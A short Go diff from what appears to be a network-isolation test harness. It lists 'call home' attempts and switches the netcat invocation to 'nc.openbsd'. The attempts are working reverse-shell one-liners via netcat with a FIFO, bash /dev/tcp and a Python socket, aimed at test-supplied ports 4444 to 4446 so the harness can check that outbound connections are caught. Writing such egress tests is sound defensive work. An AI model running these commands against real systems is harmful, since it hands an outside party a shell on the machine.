@@ -59,7 +59,7 @@ func (w *netWorld) attemptsBelow(at aims) []attempt {
 func (w *netWorld) attemptsToCallHome(at aims) []attempt {
 	to := func(port int) want { return want{proto: "tcp", addr: at.four, port: port, rule: "-"} }
 	return []attempt{
-		{name: "a reverse shell by netcat", argv: sh(`d=$(mktemp -d); mkfifo $d/f; sh <$d/f 2>&1 | nc -w 5 $1 4444 >$d/f; nc -w 5 $1 4444 </dev/null`, at.four), record: to(4444)},
+		{name: "a reverse shell by netcat", argv: sh(`d=$(mktemp -d); mkfifo $d/f; sh <$d/f 2>&1 | nc.openbsd -w 5 $1 4444 >$d/f; nc.openbsd -w 5 $1 4444 </dev/null`, at.four), record: to(4444)},
 		{name: "a reverse shell by bash", argv: []string{"bash", "-c", `exec 3<>/dev/tcp/$1/4445 || exit 1; sh <&3 >&3`, "bash", at.four}, record: to(4445)},
 		{name: "a reverse shell by python", argv: []string{"/usr/bin/python3", "-c", `import socket,subprocess,sys
 s = socket.socket(); s.connect((sys.argv[1], 4446)); subprocess.call(["sh"], stdin=s, stdout=s)`, at.four}, record: to(4446)},
